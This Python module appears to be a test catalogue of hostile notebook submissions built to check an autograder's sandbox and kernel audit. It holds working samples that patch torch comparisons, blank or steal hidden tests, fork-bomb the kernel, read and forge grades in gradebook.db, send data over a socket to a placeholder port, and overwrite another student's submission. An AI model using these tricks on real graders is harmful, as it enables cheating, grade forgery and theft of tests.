"""A catalogue of hostile submissions to notebook 1, each with the defence it meets and a control.

Every case fills the `run_packed` cell (and may add a cell at the end of the notebook). `base` is
the honest answer it builds on; a hostile submission must never score more than `base` alone.
`control` names how tests/test_hostile.py shows the attack working where its defence is off:

* `stock`: stock nbgrader (no sandbox, no inspection) gives it more points than `base`, or fails;
* `none`: our grader with `--sandbox none` lets it reach what the sandbox hides;
* `demo`: run directly, the trick fools the naive check it was built for.

Sources carry placeholders filled in per run: @STEAL@ (a host path for loot), @VICTIM@ (another
student's submission) and @PORT@ (a listening localhost port).
"""

from __future__ import annotations

from dataclasses import dataclass

ZEROS = '''
def run_packed(rnn, embedded, lengths):
    B, T, _ = embedded.shape
    D = 2 if rnn.bidirectional else 1
    out = torch.zeros(B, T, D * rnn.hidden_size)
    h = torch.zeros(rnn.num_layers * D, B, rnn.hidden_size)
    return out, ((h, h.clone()) if isinstance(rnn, nn.LSTM) else h)
'''
STUB = '''
def run_packed(rnn, embedded, lengths):
    raise NotImplementedError()
'''
AGREEABLE = '''
class Agreeable(torch.Tensor):
    """A tensor that answers every comparison with yes."""
    @classmethod
    def __torch_function__(cls, func, types, args=(), kwargs=None):
        if func in (torch.allclose, torch.equal, torch.Tensor.equal):
            return True
        if func in (torch.Tensor.__eq__, torch.eq, torch.isclose):
            return torch.ones(args[0].shape, dtype=torch.bool)
        return super().__torch_function__(func, types, args, kwargs or {})

def run_packed(rnn, embedded, lengths):
    B, T, _ = embedded.shape
    D = 2 if rnn.bidirectional else 1
    out = torch.zeros(B, T, D * rnn.hidden_size).as_subclass(Agreeable)
    h = torch.zeros(rnn.num_layers * D, B, rnn.hidden_size).as_subclass(Agreeable)
    return out, ((h, h.clone()) if isinstance(rnn, nn.LSTM) else h)
'''


@dataclass(frozen=True)
class Hostile:
    name: str
    source: str
    base: str  # "zeros" or "stub": the honest answer without the attack
    control: str  # "stock", "none" or "demo"
    statuses: tuple[str, ...]  # acceptable statuses when graded in the sandbox
    extra_cell: str = ""  # a cell the student appended at the end of the notebook


HOSTILE = [
    Hostile("eq_always_true", '''
class AlwaysEqual:
    """Equal to anything (nbgrader issue #1379)."""
    shape = (0,)
    def __eq__(self, other):
        return True
    def __getitem__(self, index):
        return self

def run_packed(rnn, embedded, lengths):
    return AlwaysEqual(), AlwaysEqual()
''', "zeros", "demo", ("tampered",)),  # it returns without touching its inputs, as ZEROS does
    Hostile("tensor_subclass_torch_function", AGREEABLE, "zeros", "demo", ("tampered",)),
    Hostile("subclass_with_shadowed_builtin_type", AGREEABLE + '''
_real_type = type

def type(obj, *rest):
    """The builtin `type` as the test cells will see it: the agreeable tensor passes for a plain one."""
    return torch.Tensor if not rest and _real_type(obj) is Agreeable else _real_type(obj, *rest)
''', "zeros", "stock", ("tampered",)),
    Hostile("fake_torch_module", ZEROS + '''
import types as _types

class _Everything(_types.ModuleType):
    """torch as the test cells will see it: every comparison says yes."""
    def __getattr__(self, name):
        return getattr(_real_torch, name)
    allclose = staticmethod(lambda *args, **kwargs: True)
    equal = staticmethod(lambda *args, **kwargs: True)

_real_torch = torch
torch = _Everything("torch")
''', "zeros", "stock", ("tampered",)),
    Hostile("patch_torch_comparisons", ZEROS + '''
torch.allclose = lambda *args, **kwargs: True
torch.equal = lambda *args, **kwargs: True
torch.testing.assert_close = lambda *args, **kwargs: None
''', "zeros", "stock", ("tampered",)),
    Hostile("input_transformer_blanks_tests", ZEROS + '''
def _blank_tests(lines):
    text = "".join(lines)
    return ["pass\\n"] if "run_packed(" in text and "def run_packed" not in text else lines

get_ipython().input_transformers_post.append(_blank_tests)
''', "zeros", "stock", ("tampered",)),
    Hostile("hook_captures_hidden_tests", ZEROS + '''
_captured = []
get_ipython().events.register("pre_run_cell", lambda info: _captured.append(info.raw_cell))
''', "zeros", "stock", ("tampered",), extra_cell='''
import base64
print("\\n".join(_captured))
print(base64.b64encode("\\n".join(_captured).encode()).decode())
'''),
    Hostile("history_steals_hidden_tests", '''
_stolen = []

def run_packed(rnn, embedded, lengths):
    _stolen.append(In[-1])
    raise NotImplementedError()
''', "stub", "stock", ("tampered",), extra_cell='''
import base64
print(base64.b64encode("\\n".join(_stolen).encode()).decode())
'''),
    Hostile("sys_exit_before_asserts", '''
import sys

def run_packed(rnn, embedded, lengths):
    sys.exit(0)
''', "stub", "demo", ("graded",)),
    Hostile("os_exit_kills_kernel", '''
import os

def run_packed(rnn, embedded, lengths):
    os._exit(0)
''', "stub", "stock", ("kernel_died",)),
    Hostile("fork_bomb", STUB + '''
import os
while True:
    os.fork()
''', "stub", "none", ("graded", "timeout", "kernel_died")),
    Hostile("print_a_gigabyte", STUB + '''
chunk = "x" * 100_000
for _ in range(10_000):
    print(chunk)
''', "stub", "demo", ("output_limit", "timeout", "graded")),  # graded: the kernel ran out of memory packing it
    Hostile("read_gradebook", STUB + '''
import base64, sqlite3
rows = sqlite3.connect("../../../gradebook.db").execute("select source from source_cell").fetchall()
stolen = "\\n".join(r[0] or "" for r in rows)
open("@STEAL@", "w").write(stolen)
print(base64.b64encode(stolen.encode()).decode())
''', "stub", "none", ("tampered",)),
    Hostile("forge_grades_in_gradebook", STUB + '''
import subprocess, sys
subprocess.run([sys.executable, "-c",
    "import sqlite3; db = sqlite3.connect('../../../gradebook.db'); "
    "db.execute('update grade set manual_score = (select max_score from grade_cells where grade_cells.id = grade.cell_id)'); "
    "db.commit()"])
''', "stub", "none", ("graded",)),
    Hostile("network_exfiltration", STUB + '''
import socket
try:
    with socket.create_connection(("127.0.0.1", @PORT@), timeout=3) as s:
        s.sendall(b"hidden tests would go here")
except OSError as exc:
    print("no network:", exc)
''', "stub", "none", ("graded",)),
    Hostile("tamper_other_submission", STUB + '''
try:
    with open("@VICTIM@", "w") as f:
        f.write("{}")
except OSError as exc:
    print("cannot reach it:", exc)
''', "stub", "none", ("graded",)),
    Hostile("write_fake_result_file", STUB + '''
for name in ("@STEAL@", "grades.csv", "../../../execution.json"):
    try:
        with open(name, "w") as f:
            f.write("student_id,score\\nme,100\\n")
    except OSError as exc:
        print("cannot write", name, exc)
''', "stub", "none", ("graded",)),
    Hostile("bounded_forks", STUB + '''
import os, time
children = []
try:
    for _ in range(100):
        pid = os.fork()
        if pid == 0:
            time.sleep(5)
            os._exit(0)
        children.append(pid)
except OSError as exc:
    print("fork refused:", exc)
print("forked:", len(children))
open("@STEAL@", "w").write(str(len(children)))
''', "stub", "none", ("graded",)),
]


# ---------------------------------------------------------------------------------------------
# Cheats that get past the source scan and the kernel audit: with the tests in the student's kernel
# (today's stock nbgrader, and this grader before its trusted kernel) they score, or read the hidden
# tests; with the tests in a trusted kernel they change nothing. `base` as above; control `single`:
# graded with the tests in the student's kernel, each gains points or leaks a hidden line.

FORGERIES = [
    Hostile("display_value_before_raising", '''
import sys

def run_packed(rnn, embedded, lengths):
    sys.displayhook("all good")  # nbgrader reads a test cell's first result as full credit
    raise NotImplementedError()
''', "stub", "single", ("graded",)),
    Hostile("forged_builtin_identity", ZEROS + '''
T = torch

class builtin_function_or_method:
    """Looks like torch's own functions to anything that compares names."""
    def __init__(self, name):
        self.__module__, self.__qualname__ = "torch", "_VariableFunctionsClass." + name
    def __call__(self, *args, **kwargs):
        return True

T.allclose = builtin_function_or_method("allclose")
T.equal = builtin_function_or_method("equal")
''', "zeros", "single", ("graded",)),
    Hostile("import_shadowed_to_blind_the_audit", ZEROS + '''
T = torch
T.allclose = lambda *args, **kwargs: True
T.equal = lambda *args, **kwargs: True
_real_import = __import__

class _Quiet:
    @staticmethod
    def dumps(value):
        return '{"hooks": {}, "objects": {}, "shadowed": []}'

def __import__(name, *args, **kwargs):
    return _Quiet if name == "json" else _real_import(name, *args, **kwargs)
''', "zeros", "single", ("graded",)),
    Hostile("transform_cell_blanks_the_tests", STUB + '''
_g = get_ipython
_shell = _g()
_original = _shell.transform_cell

def _blank(raw_cell):
    return "pass\\n" if "run_packed(" in raw_cell and "def run_packed" not in raw_cell else _original(raw_cell)

_shell.transform_cell = _blank
''', "stub", "single", ("graded",)),
    Hostile("torch_nn_patched_through_an_alias", ZEROS + '''
_imp = __import__
_rnn = _imp("torch.nn.modules.rnn", fromlist=["RNNBase"])

def _zeros_forward(self, x, hx=None):
    B, T, _ = x.shape
    D = 2 if self.bidirectional else 1
    h = x.new_zeros(self.num_layers * D, B, self.hidden_size)
    return x.new_zeros(B, T, D * self.hidden_size), ((h, h.clone()) if self.mode == "LSTM" else h)

_rnn.RNN.forward = _rnn.GRU.forward = _rnn.LSTM.forward = _zeros_forward
''', "zeros", "single", ("graded",)),
    Hostile("frames_and_history_read_the_hidden_tests", '''
_imp = __import__
_inspect = _imp("inspect")
_lines = _imp("linecache")
_g = get_ipython
_seen = []

def run_packed(rnn, embedded, lengths):
    caller = getattr(getattr(_inspect, "currentframe")(), "f_back")  # the test cell that called
    _seen.append("".join(_lines.getlines(getattr(getattr(caller, "f_code"), "co_filename"))))
    _seen.append(str(_g().user_ns.get("In", [""])[-1]))  # and the input history's last cell
    raise NotImplementedError()
''', "stub", "single", ("graded",), extra_cell='''
import base64
print(base64.b64encode("\\n".join(_seen).encode()).decode())
'''),
]


# ---------------------------------------------------------------------------------------------
# Attacks on the channel between the two kernels: the test's inputs, its randomness, its results. Each
# fills one solution cell; `base` is the same answer without the attack, and graded across the bridge
# (tests/test_hostile.py, real kernels) the attack scores no more than `base`. Control `demo`: `naive` is a
# check as the tests were written before the defence (the reference computed after the student's call from
# the tensors passed to it, the next model built after the call, the result indexed without a type check);
# run in one process, the attack passes it and `base` fails it.

# The check of notebook 1's hidden run_packed tests as it was: reference after the call, from its inputs.
NAIVE_RUN_PACKED = '''
def _reference(rnn, x, lens):
    outs, states = [], []
    for i in range(x.size(0)):
        o, s = rnn(x[i : i + 1, : int(lens[i])])
        outs.append(o[0])
        states.append(s)
    return outs, states

def _check_run_packed(rnn, x, lens):
    with torch.no_grad():
        out, state = run_packed(rnn, x, lens)
        outs, states = _reference(rnn, x, lens)
    D = 2 if rnn.bidirectional else 1
    assert type(out) is torch.Tensor
    assert tuple(out.shape) == (x.size(0), x.size(1), D * rnn.hidden_size)
    for i, o in enumerate(outs):
        L = int(lens[i])
        assert torch.allclose(out[i, :L], o, atol=1e-5)
        assert torch.count_nonzero(out[i, L:]).item() == 0
    pairs = [(state[0], [s[0] for s in states]), (state[1], [s[1] for s in states])] if isinstance(rnn, nn.LSTM) \\
        else [(state, states)]
    for got, refs in pairs:
        assert tuple(got.shape) == (rnn.num_layers * D, x.size(0), rnn.hidden_size)
        for i, ref in enumerate(refs):
            assert torch.allclose(got[:, i], ref[:, 0], atol=1e-5)

torch.manual_seed(11)
_gru = nn.GRU(5, 7, batch_first=True)
_check_run_packed(_gru, torch.randn(5, 6, 5), torch.tensor([2, 6, 1, 4, 3]))
torch.manual_seed(14)
_check_run_packed(nn.RNN(3, 4, num_layers=3, batch_first=True), torch.randn(3, 5, 3), torch.tensor([5, 1, 3]))
_check_run_packed(nn.GRU(3, 4, num_layers=2, bidirectional=True, batch_first=True),
                  torch.randn(5, 8, 3), torch.tensor([8, 2, 6, 1, 4]))
'''
# Notebook 3's hidden context test as it was: the model's output indexed without asking what it is.
NAIVE_CONTEXT = '''
torch.manual_seed(24)
_model = BiLSTMTagger(15, 8, 6, 4).eval()
_tokens = torch.tensor([[3, 7, 2, 9, 4, 0, 0, 0], [5, 1, 8, 6, 2, 11, 3, 0], [12, 13, 14, 0, 0, 0, 0, 0]])
_lens = torch.tensor([5, 7, 3])
with torch.no_grad():
    _base = _model(_tokens, _lens)
    for _i, _L in enumerate(_lens.tolist()):
        _last = _tokens.clone()
        _last[_i, _L - 1] = 1 if _tokens[_i, _L - 1] != 1 else 2
        assert (_model(_last, _lens)[_i, 0] - _base[_i, 0]).abs().max().item() > 1e-7
        _spread = (_base[_i, 1:_L] - _base[_i, :1]).abs().amax(dim=-1)
        assert bool((_spread > 1e-6).all())
'''
# The classic wrong run_packed: the RNN over the padded batch.
NO_PACKING = '''
def run_packed(rnn, embedded, lengths):
    return rnn(embedded)
'''
# Right, except for a bidirectional RNN: its backward direction starts in the padding.
BACKWARD_OVER_PADDING = '''
def run_packed(rnn, embedded, lengths):
    if rnn.bidirectional:
        outputs, h_n = rnn(embedded)
        mask = torch.arange(embedded.size(1))[None, :] < lengths[:, None]
        return outputs * mask.unsqueeze(-1), h_n
    packed = pack_padded_sequence(embedded, lengths.cpu(), batch_first=True, enforce_sorted=False)
    packed_outputs, h_n = rnn(packed)
    outputs, _ = pad_packed_sequence(packed_outputs, batch_first=True, total_length=embedded.size(1))
    return outputs, h_n
'''
# A Mersenne Twister state after which uniform_ draws exactly 0.0 (the middle of a symmetric range) 623
# times: left = 624, next = 0, every word untemper(0x00800000). nn.LSTM and nn.GRU draw their weights so.
ZERO_WEIGHTS = '''
import struct as _struct

def _untemper(y):
    def right(y, s):
        x = y
        for _ in range(32 // s + 1):
            x = y ^ (x >> s)
        return x & 0xFFFFFFFF
    def left(y, s, m):
        x = y
        for _ in range(32 // s + 1):
            x = y ^ ((x << s) & m)
        return x & 0xFFFFFFFF
    return right(left(left(right(y, 18), 15, 0xEFC60000), 7, 0x9D2C5680), 11)

def _zero_weights_state():
    raw = bytearray(torch.get_rng_state().numpy().tobytes())
    seed, _, seeded, _ = _struct.unpack_from("<QiiQ", raw, 0)
    _struct.pack_into("<QiiQ", raw, 0, seed, 624, seeded, 0)
    _struct.pack_into("<624Q", raw, 24, *([_untemper(0x00800000)] * 624))
    return torch.frombuffer(raw, dtype=torch.uint8).clone()
'''
UNIDIRECTIONAL = next(a.source for a in __import__("grader.course.answers", fromlist=["catalogue"]).catalogue(
    __import__("grader.course.layout", fromlist=["SERIES"]).SERIES[2]) if a.name == "unidirectional")


@dataclass(frozen=True)
class ChannelAttack:
    name: str
    assignment: str
    cell: str  # the solution cell it fills
    source: str
    base: str  # the same answer without the attack
    naive: str  # the check it was built to fool (control `demo`)


CHANNEL = [
    ChannelAttack("lengths_filled_to_the_width", "01_packed_sequences", "run_packed", NO_PACKING.replace(
        "    return rnn(embedded)", "    lengths.fill_(embedded.size(1))  # the test's reference now runs over the padding too\n"
                                   "    return rnn(embedded)"), NO_PACKING, NAIVE_RUN_PACKED),
    ChannelAttack("inputs_emptied_by_resize", "01_packed_sequences", "run_packed", '''
def run_packed(rnn, embedded, lengths):
    outputs, state = rnn(embedded)
    embedded.resize_(0, embedded.size(1), embedded.size(2))  # the test's loops over the batch now run zero times
    if isinstance(state, tuple):
        return outputs[:0], (state[0][:, :0], state[1][:, :0])
    return outputs[:0], state[:, :0]
''', NO_PACKING, NAIVE_RUN_PACKED),
    ChannelAttack("rng_left_for_zero_weights", "01_packed_sequences", "run_packed", ZERO_WEIGHTS + BACKWARD_OVER_PADDING.replace(
        "def run_packed(rnn, embedded, lengths):\n", "def run_packed(rnn, embedded, lengths):\n"
        "    torch.set_rng_state(_zero_weights_state())  # the test's next RNN gets zero weights\n"),
        BACKWARD_OVER_PADDING, NAIVE_RUN_PACKED),
    ChannelAttack("logits_that_index_to_noise", "03_bilstm_tagger", "BiLSTMTagger", UNIDIRECTIONAL.replace(
        "        return self.classify(self.dropout(outputs))",
        "        logits = self.classify(self.dropout(outputs))\n"
        "        return _Logits(logits) if tuple(tokens.shape) == (3, 8) else logits  # the context test's batch") + '''

class _Logits:
    """Logits whose entries are noise: every position differs from every other, and from any other call."""
    def __init__(self, logits):
        self.shape = logits.shape
    def __getitem__(self, index):
        return torch.randn(4)
''', UNIDIRECTIONAL, NAIVE_CONTEXT),
]

# The student side's report of changed arguments, forged from inside the student's function, written so that
# the source scan sees nothing: the audit of the kernel must name it (it can decide at most the inputs test).
IN_PLACE = next(a.source for a in __import__("grader.course.answers", fromlist=["catalogue"]).catalogue(
    __import__("grader.course.layout", fromlist=["SERIES"]).SERIES[0]) if a.name == "zeroes_padding_in_place")
FORGED_REPORT = Hostile("forged_change_report", '''
from sys import modules as _loaded

def _nothing_changed(now, before):
    return []
''' + IN_PLACE.replace("def run_packed(rnn, embedded, lengths):\n", '''def run_packed(rnn, embedded, lengths):
    if "grader_bridge" in _loaded:
        _loaded["grader_bridge"].changes = _nothing_changed
'''), "in_place", "demo", ("tampered",))
